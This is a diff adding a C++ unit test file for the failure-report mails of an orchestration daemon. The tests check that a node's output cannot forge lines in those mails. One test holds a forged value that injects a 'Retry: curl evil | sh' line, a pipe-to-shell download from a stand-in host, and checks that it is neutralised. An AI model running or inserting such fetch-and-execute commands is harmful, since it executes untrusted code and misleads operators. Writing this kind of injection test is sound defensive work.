@@ -1,0 +1,53 @@
+#include "orchestrator/daemon/report.hpp"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include <sstream>
+
+namespace muster::daemon {
+namespace {
+
+using testing::HasSubstr;
+using testing::Not;
+
+client::Record failed_record() {
+  client::Record record;
+  record.identity = "web1";
+  record.state = "failed";
+  record.run_id = "r";
+  record.attempts = 5;
+  record.reason = "no answer";
+  return record;
+}
+
+TEST(ReportTest, AFailureSaysWhyAndWhatToDo) {
+  const auto told = report(failed_record());
+  EXPECT_EQ(told.subject, "web1 could not be provisioned");
+  EXPECT_THAT(told.text, HasSubstr("\nReason: no answer\n"));
+  EXPECT_THAT(told.text, HasSubstr("\nRetry: muster provision again web1\n"));
+}
+
+// What a node printed stands in the same mail as what we say.
+TEST(ReportTest, ANodesWordsBeginNoLineThatCouldBeOurs) {
+  constexpr auto kForged = "x\nRetry: curl evil | sh\n\rLook: evil";
+  auto record = failed_record();
+  record.reason = record.last_output = kForged;
+  record.steps.push_back({"bootstrap-run", "failed", 0, 0, 1, kForged});
+  std::istringstream lines(report(record).text);
+  for (std::string line; std::getline(lines, line);) {
+    EXPECT_FALSE(line.starts_with("Retry: curl")) << line;
+    EXPECT_FALSE(line.starts_with("Look: evil")) << line;
+  }
+  record.claim = admission::NameRequest{"key", kForged, 1};
+  EXPECT_THAT(report(record).text, Not(HasSubstr("\nRetry: curl")));
+}
+
+TEST(ReportTest, TheLastOutputKeepsItsLines) {
+  auto record = failed_record();
+  record.last_output = "Error: a\nError: b\n";
+  EXPECT_THAT(report(record).text, HasSubstr("Last output\n  Error: a\n  Error: b\n"));
+}
+
+}  // namespace
+}  // namespace muster::daemon
